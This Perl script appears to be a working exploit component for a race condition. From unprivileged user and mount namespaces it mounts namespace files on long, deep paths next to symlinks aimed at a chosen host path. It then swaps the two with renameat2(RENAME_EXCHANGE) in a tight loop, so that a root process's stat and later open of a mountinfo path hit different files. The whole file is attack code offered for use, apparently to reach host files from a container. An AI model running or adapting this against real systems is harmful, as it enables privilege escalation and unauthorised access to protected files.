# Run as an unprivileged user in a user+mount namespace of its own, with a tmpfs on /mnt: mounts
# COUNT user namespaces of its own on DEPTH-deep paths .../pI/ns, next to .../qI/ns, a symlink to
# TARGET (a host path: a symlink under /proc/PID/root resolves from root's root), and swaps pI
# and qI with renameat2(RENAME_EXCHANGE) as fast as it can. The long path makes root's lookup
# slow, so a stat and a later open of the same mountinfo path see different files.
# Prints "ready INO..." once swapping starts.
use strict; use warnings; use POSIX (); require "syscall.ph";
my ($target, $count, $depth) = @ARGV; $| = 1;
chdir "/mnt" or die "chdir: $!";
for (1 .. $depth) { mkdir "a" or die "mkdir: $!"; chdir "a" or die "chdir: $!" }
my @inodes;
for my $i (0 .. $count - 1) {
  mkdir "p$i" or die; mkdir "q$i" or die; symlink($target, "q$i/ns") or die "symlink: $!";
  open(my $t, ">", "p$i/ns") or die "touch: $!"; close $t;
  pipe(my $r, my $w) or die;
  my $pid = fork() // die;
  if (!$pid) { close $r; syscall(&SYS_unshare, 0x10000000) == 0 or POSIX::_exit(1); syswrite($w, "x"); sleep 100; POSIX::_exit(0) }
  close $w; sysread($r, my $b, 1) == 1 or die "unshare(CLONE_NEWUSER) failed";
  push @inodes, (stat "/proc/$pid/ns/user")[1];
  syscall(&SYS_mount, "/proc/$pid/ns/user", "p$i/ns", 0, 4096, 0) == 0 or die "mount: $!"; # MS_BIND
  kill 9, $pid; waitpid $pid, 0;
}
print "ready @inodes\n";
while (1) { for my $i (0 .. $count - 1) { syscall(&SYS_renameat2, -100, "p$i", -100, "q$i", 2) == 0 or die "exchange: $!" } }
